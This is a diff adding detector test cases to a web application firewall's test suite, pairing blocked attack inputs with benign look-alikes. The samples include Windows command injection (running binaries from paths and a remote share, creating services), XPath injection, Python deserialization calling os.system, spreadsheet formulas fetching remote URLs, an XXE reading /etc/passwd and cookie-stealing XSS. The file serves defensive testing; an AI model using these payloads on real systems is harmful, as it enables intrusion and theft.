@@ -1,7 +1,13 @@
 // What the eighteenth trial showed, each class beside what looks like it and means no harm.
 import { test } from 'node:test';
+import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
+import { detectDeserialization } from '../../../src/guard/decide/waf/detect/deserialization/deserialization.ts';
 import type { Detector } from '../../../src/guard/decide/waf/detect/finding.ts';
+import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
 import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
+import { detectXpath } from '../../../src/guard/decide/waf/detect/xpath/xpath.ts';
+import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
+import { detectXxe } from '../../../src/guard/decide/waf/detect/xxe/xxe.ts';
 import { blocks, passes } from './judged.ts';
 
 const classes: readonly [string, Detector, readonly string[], readonly string[]][] = [
@@ -33,6 +39,83 @@ const classes: readonly [string, Detector, readonly string[], readonly string[]]
     detectSql,
     ["9'; execute as login='sa'-- ", "9'; execute as user = 'dbo'; select 1-- ", "9; exec as user='dbo'"],
     ['execute as user requested', "it's best; execute as login allows", 'exec as user of the month'],
+  ],
+  [
+    'a program of Windows is run by its whole path, a service made, and cmd.exe given switches in one word',
+    detectShell,
+    [
+      'x & c:\\windows\\system32\\calc.exe',
+      'x && D:\\tools\\k.bat /q',
+      'x & \\\\203.0.113.4\\s\\k.exe',
+      'x || c:/users/public/k.cmd',
+      'x & sc create k binpath= calc',
+      'x & sc config spooler binpath= "cmd /c calc" start= auto',
+      'x & cmd.exe /v/c "set k=whoami&!k!"',
+      'x & cmd /v:on/c dir',
+      '/bin/busybox KIM',
+    ],
+    [
+      'Word & C:\\Program Files\\Shop\\',
+      'Blocked | C:\\Users\\kim\\setup.exe | quarantined',
+      'see C:\\k.exe',
+      'drive C: & drive D:\\photos',
+      'a=1&path=C:\\photos\\k.png',
+      'sc create = scanner, created',
+      '/bin/busybox',
+      'busybox applets',
+    ],
+  ],
+  [
+    'cmdlets that are compared and a path that somebody is told to type are prose',
+    detectShell,
+    ['a; Start-Process calc', 'type C:\\windows\\win.ini', 'x & type C:\\k.txt'],
+    [
+      'Start-Process vs Invoke-Item',
+      'Invoke-WebRequest or Invoke-RestMethod?',
+      'type C:\\ and press Enter',
+      'Type C:\\Users in the bar',
+    ],
+  ],
+  [
+    'XPath goes on behind a predicate with what a function finds',
+    detectXpath,
+    ['"] | collection("/db")//* | k["', "x'] | doc('a.xml')//b | c['", "x'] | id('k')/pass | c['"],
+    ["notes'] | id(5)", "['a'] | document it", "the key ['b'] | collection of prints"],
+  ],
+  [
+    'a class of Python is made by a hint of JSON-RPC',
+    detectDeserialization,
+    ['{"__jsonclass__":["subprocess.Popen",["id"]]}', '{"a":[{"__jsonclass__": ["os.system", ["id"]]}]}'],
+    ['{"__jsonclass__":["shop.Cart",[]]}', '{"__class__":"Cart","os.name":"linux"}'],
+  ],
+  [
+    'what a formula fetches and takes apart is fetched all the same',
+    detectCode,
+    ['=FILTERXML(WEBSERVICE("http://k.example/"),"//k")', '=IFERROR(WEBSERVICE("https://k.example/"),"")'],
+    ['=FILTERXML(A1,"//k")', '=SUM(WEBSERVICE)', '=IF(A1="","",WEBSERVICE)'],
+  ],
+  [
+    'an entity that is one character is what HTML has anyway',
+    detectXxe,
+    [
+      '<!ENTITY k "&#60;script>">',
+      '<!ENTITY k "&#x3c;">',
+      '<!ENTITY % k "&#x25;">',
+      '<!ENTITY k "&a;&a;">',
+      '<!ENTITY k SYSTEM "file:///etc/passwd">',
+    ],
+    [
+      '<!ENTITY nbsp "&#160;">',
+      '<!ENTITY nbsp "\u00a0">',
+      '<!ENTITY copy "&#xA9;">',
+      '<!ENTITY euro "&#8364;"> in XSLT',
+    ],
+  ],
+  [
+    'a question with its answers is no dialogue of a page',
+    detectXss,
+    ['confirm(1)', 'confirm (document.cookie)', 'confirm(y/n);alert(1)'],
+    ['confirm (y/n)', 'Please confirm (y/n)?', 'prompt (y/n):'],
   ],
 ];
 
